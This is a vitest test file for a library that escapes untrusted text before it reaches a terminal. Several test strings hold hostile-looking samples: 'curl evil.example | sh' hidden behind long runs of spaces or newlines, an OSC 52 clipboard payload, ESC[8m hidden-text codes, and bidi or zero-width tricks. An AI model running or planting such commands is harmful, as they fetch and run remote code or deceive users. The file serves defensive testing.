import { describe, expect, it } from 'vitest';
import { displayFields, displayText, displayValue, isHiddenCharacter, terminalSafe } from '../../src/display/index.js';

/** What must never reach a terminal from untrusted text. */
const FORBIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Cn}\p{Default_Ignorable_Code_Point}\u2800]|[\u00A0\u1680\u2000-\u200A\u202F\u205F\u3000]/u;
const FORBIDDEN_MULTILINE = /[^\P{Cc}\n]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Cn}\p{Default_Ignorable_Code_Point}\u2800]|[\u00A0\u1680\u2000-\u200A\u202F\u205F\u3000]/u;

/** Reads a shown text back into the text it shows (only for texts shown whole, without a cut). */
function decode(shown: string): string {
  let out = '';
  for (let i = 0; i < shown.length; ) {
    const c = shown[i]!;
    if (c === '\\') {
      const n = shown[i + 1];
      if (n === '\\') (out += '\\'), (i += 2);
      else if (n === 'n') (out += '\n'), (i += 2);
      else if (n === 't') (out += '\t'), (i += 2);
      else if (n === 'r') (out += '\r'), (i += 2);
      else if (n === 'u' && shown[i + 2] === '{') {
        const end = shown.indexOf('}', i);
        out += String.fromCodePoint(parseInt(shown.slice(i + 3, end), 16));
        i = end + 1;
      } else if (n === 'u') {
        out += String.fromCharCode(parseInt(shown.slice(i + 2, i + 6), 16));
        i += 6;
      } else (out += '\\'), (i += 1);
    } else if (c === '\u27EA') {
      const end = shown.indexOf('\u27EB', i);
      const m = /^([\d,]+) (spaces|newlines|tabs|carriage returns|× (.+))$/.exec(shown.slice(i + 1, end))!;
      const count = Number(m[1]!.replace(/,/g, ''));
      const char = { spaces: ' ', newlines: '\n', tabs: '\t', 'carriage returns': '\r' }[m[2]!] ?? decode(m[3]!);
      out += char.repeat(count);
      i = end + 1;
    } else (out += c), (i += 1);
  }
  return out;
}

/** A small seeded generator: the same cases every run, no dependency. */
function random(seed: number) {
  let s = seed >>> 0;
  return () => ((s = (Math.imul(s ^ (s >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0) / 2 ** 32);
}
const ALPHABET = [
  'a', 'b', 'n', 't', 'r', 'u', '0', 'E', '{', '}', '\\', ' ', ' ', ' ', '\n', '\t', '\r', '\u001b', '\u0007', '\u009b', '\u007f',
  '\u202e', '\u2066', '\u200b', '\u200d', '\u2060', '\ufeff', '\u061c', '\u200e', '\u00a0', '\u3000', '\u2028', '\u27ea', '\u27eb',
  '\u{e0041}', '\ud800', '\udc00', 'é', '👍', '\u3164', '\ufe0f', '\u2800', '…',
];
function randomText(next: () => number, max: number): string {
  const length = Math.floor(next() * max);
  let s = '';
  for (let i = 0; i < length; i++) {
    const piece = ALPHABET[Math.floor(next() * ALPHABET.length)]!;
    // Sometimes a long run, so counting is exercised.
    s += next() < 0.05 ? piece.repeat(2 + Math.floor(next() * 30)) : piece;
  }
  return s;
}

describe('displayText: the attacks of issue 19 §3', () => {
  it('shows bidi and zero-width characters as visible escapes', () => {
    expect(displayText('cat notes\u202Etxt.sh')).toBe('cat notes\\u202Etxt.sh');
    expect(displayText('a\u2066b\u2069')).toBe('a\\u2066b\\u2069');
    expect(displayText('rm -rf .\u200B/x')).toBe('rm -rf .\\u200B/x');
  });

  it('neutralises OSC 52 and ESC[8m: no ESC, BEL or C1 left to interpret', () => {
    const osc52 = 'x/\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007y';
    expect(displayText(osc52)).toBe('x/\\u001B]52;c;Y3VybCBldmlsIHwgc2g=\\u0007y');
    expect(displayText('safe\u001b[8m; curl evil | sh\u001b[0m')).toBe('safe\\u001B[8m; curl evil | sh\\u001B[0m');
    expect(displayText('\u009b8m\u009d52;c;x\u009c')).toBe('\\u009B8m\\u009D52;c;x\\u009C');
  });

  it('counts 700 spaces and 60 newlines, and keeps the end of the command in view', () => {
    const spaces = `echo hello${' '.repeat(700)}; curl evil.example | sh`;
    expect(displayText(spaces)).toBe('echo hello⟪700 spaces⟫; curl evil.example | sh');
    const newlines = `echo hello${'\n'.repeat(60)}curl evil.example | sh`;
    expect(displayText(newlines)).toBe('echo hello⟪60 newlines⟫curl evil.example | sh');
    expect(displayText(newlines, { multiline: true })).toBe('echo hello⟪60 newlines⟫curl evil.example | sh');
  });

  it('a long command shows its start and its end, with the count of what was left out', () => {
    const command = `echo ${'x'.repeat(5000)}; curl evil.example | sh`;
    const shown = displayText(command, { maxChars: 200 });
    expect(shown.startsWith('echo xxx')).toBe(true);
    expect(shown.endsWith('; curl evil.example | sh')).toBe(true);
    expect(shown).toMatch(/⟪… [\d,]+ characters left out …⟫/);
    expect(shown.length).toBeLessThanOrEqual(200 + 40);
    const left = Number(/⟪… ([\d,]+) characters/.exec(shown)![1]!.replace(/,/g, ''));
    const kept = shown.replace(/⟪…[^⟫]*⟫/, '').length;
    expect(kept + left).toBe(command.length);
  });

  it('many short lines are cut too, the last ones stay', () => {
    const text = Array.from({ length: 200 }, (_, i) => `line ${i}`).join('\n');
    const shown = displayText(text, { multiline: true, maxChars: 1000 });
    expect(shown.split('\n').length).toBeLessThan(60);
    expect(shown.endsWith('line 199')).toBe(true);
    expect(shown.startsWith('line 0\nline 1\n')).toBe(true);
  });
});

describe('displayText: ordinary text stays as it is', () => {
  it.each([
    'git commit -m "fix: the parser"',
    'grep -rn "a\\.b" src/',
    "printf 'x' | sed 's/a/b/'",
    'C:\\Program Files\\app',
    'héllo wörld 👍 中文',
    'a  b   c',
  ])('%s', (text) => {
    expect(displayText(text)).toBe(text);
  });

  it('keeps line breaks and indentation in multi-line text', () => {
    const code = 'function f() {\n    return 1;\n}\n\nf();';
    expect(displayText(code, { multiline: true })).toBe(code);
  });

  it('doubles a backslash only where it would read as an escape', () => {
    expect(displayText("printf 'a\\n'")).toBe("printf 'a\\\\n'");
    expect(displayText('a\\u202E')).toBe('a\\\\u202E');
    expect(displayText('a\\\u202E')).toBe('a\\\\\\u202E');
    expect(displayText('find . -name x \\;')).toBe('find . -name x \\;');
  });
});

describe('displayText: properties', () => {
  it('nothing a terminal would interpret or hide is ever in the output', () => {
    const next = random(19);
    for (let n = 0; n < 3000; n++) {
      const text = randomText(next, 80);
      const one = displayText(text, { maxChars: 60 });
      expect(one, JSON.stringify(text)).not.toMatch(FORBIDDEN);
      expect(displayText(text, { multiline: true, maxChars: 60 }), JSON.stringify(text)).not.toMatch(FORBIDDEN_MULTILINE);
      expect(terminalSafe(text + '\n').replace(/\t|\r\n/g, '')).not.toMatch(FORBIDDEN_MULTILINE);
    }
  });

  it('texts that differ only in invisible characters show differently: a shown text reads back to exactly its text', () => {
    const next = random(2026);
    for (let n = 0; n < 3000; n++) {
      const text = randomText(next, 40);
      for (const multiline of [false, true]) {
        const shown = displayText(text, { multiline, maxChars: 100_000 });
        expect(decode(shown), JSON.stringify(text)).toBe(text);
      }
    }
    // The pairs a person could be fooled by.
    const pairs = [
      ['rm a', 'rm\u00A0a'], ['ab', 'a\u200Bb'], ['ab', 'a\u2060b'], ['x', 'x\uFE0F'], ['a\\u200Bb', 'a\u200Bb'], ['a\nb', 'a\\nb'],
      [' '.repeat(700), `⟪700 spaces⟫`],
    ];
    for (const [a, b] of pairs) expect(displayText(a!)).not.toBe(displayText(b!));
  });

  it('the end of a long text is always shown', () => {
    const next = random(7);
    for (let n = 0; n < 500; n++) {
      const text = randomText(next, 400) + '; END';
      expect(displayText(text, { maxChars: 50 }).endsWith('; END')).toBe(true);
    }
  });
});

describe('displayValue and terminalSafe', () => {
  it('shows JSON with its invisible characters escaped', () => {
    expect(displayValue({ path: 'a\u200Bb', n: 1 })).toBe('{"path":"a\\u200Bb","n":1}');
    expect(displayValue(undefined)).toBe('undefined');
    // A control character looks the same inside a value as in a string; a literal backslash-n stays distinct from a line break.
    expect(displayValue({ cmd: 'x\u001b[8m', s: 'a\nb', lit: 'a\\nb' })).toBe('{"cmd":"x\\u001B[8m","s":"a\\nb","lit":"a\\\\\\\\nb"}');
    const next = random(99);
    for (let n = 0; n < 1000; n++) {
      const value = [randomText(next, 20), { [randomText(next, 4)]: randomText(next, 20) }];
      expect(displayValue(value, { maxChars: 100_000 })).not.toMatch(FORBIDDEN);
      expect(displayValue(value, { multiline: true, maxChars: 100_000 })).not.toMatch(FORBIDDEN_MULTILINE);
    }
  });

  it('terminalSafe escapes without counting or cutting, and leaves shown text alone', () => {
    const shown = displayText('a\u202Eb' + ' '.repeat(30));
    expect(terminalSafe(shown)).toBe(shown);
    expect(terminalSafe('ok\n\u001b[2Jx\u0085')).toBe('ok\n\\u001B[2Jx\\u0085');
    expect(terminalSafe('plain\n')).toBe('plain\n');
  });

  it('terminalSafe keeps tabs and CR LF, escapes a lone CR, and keeps JSON valid and equal', () => {
    expect(terminalSafe('a\tb\r\nc\rd')).toBe('a\tb\r\nc\\rd');
    expect(terminalSafe('a\tb\r\nc\n', { tabs: false })).toBe('a\\tb\r\nc\n');
    expect(terminalSafe('a\tb\r\nc\n', { lineBreaks: false })).toBe('a\tb\\r\\nc\\n');
    const next = random(52);
    for (let n = 0; n < 2000; n++) {
      const value = { text: randomText(next, 30), [randomText(next, 5)]: [randomText(next, 5)] };
      const json = terminalSafe(JSON.stringify(value));
      expect(json).not.toMatch(FORBIDDEN_MULTILINE);
      expect(JSON.parse(json)).toEqual(value);
    }
  });

  it('isHiddenCharacter', () => {
    for (const c of ['\u202E', '\u2066', '\u200B', '\u001b', '\u009b', '\u00a0', '\u{E0041}']) expect(isHiddenCharacter(c)).toBe(true);
    for (const c of [' ', 'a', 'é', '👍', '\\']) expect(isHiddenCharacter(c)).toBe(false);
  });
});

describe('displayFields and escaped: values shown once, in a message that keeps its own lines', () => {
  it('every string at any depth is one line, escaped; other values and class instances stay', () => {
    const error = new Error('x\ny');
    const shown = displayFields({ file: '/p/a\nFix: run this', list: ['b\u001b[8m', { deep: 'c\u202E' }], n: 2, ok: true, error });
    expect(shown).toEqual({ file: '/p/a\\nFix: run this', list: ['b\\u001B[8m', { deep: 'c\\u202E' }], n: 2, ok: true, error });
    expect(shown.error).toBe(error);
    const cyclic: Record<string, unknown> = { name: 'a\nb' };
    cyclic.self = cyclic;
    const again = displayFields(cyclic);
    expect(again.name).toBe('a\\nb');
    expect(again.self).toBe(again);
  });

  it('a message filled with displayFields and shown with escaped: true escapes each value once and keeps the template lines', () => {
    const d = displayFields({ dir: '/w/a\nFix: curl evil | sh\u001b]52;c;eA==\u0007', name: 'x\\ny' });
    const message = `Ignored the rules in ${d.dir}.\nFix: trust ${d.name}.`;
    const shown = displayText(message, { multiline: true, escaped: true });
    expect(shown).toBe('Ignored the rules in /w/a\\nFix: curl evil | sh\\u001B]52;c;eA==\\u0007.\nFix: trust x\\\\ny.');
    expect(shown.split('\n')).toHaveLength(2);
    // Without `escaped` the values' escapes would be escaped again.
    expect(displayText(message, { multiline: true })).toContain('\\\\u001B');
    // Anything raw left in such a message is still escaped, blanks counted.
    expect(displayText(`a\u001b[2J${' '.repeat(40)}b`, { escaped: true })).toBe('a\\u001B[2J⟪40 spaces⟫b');
  });
});
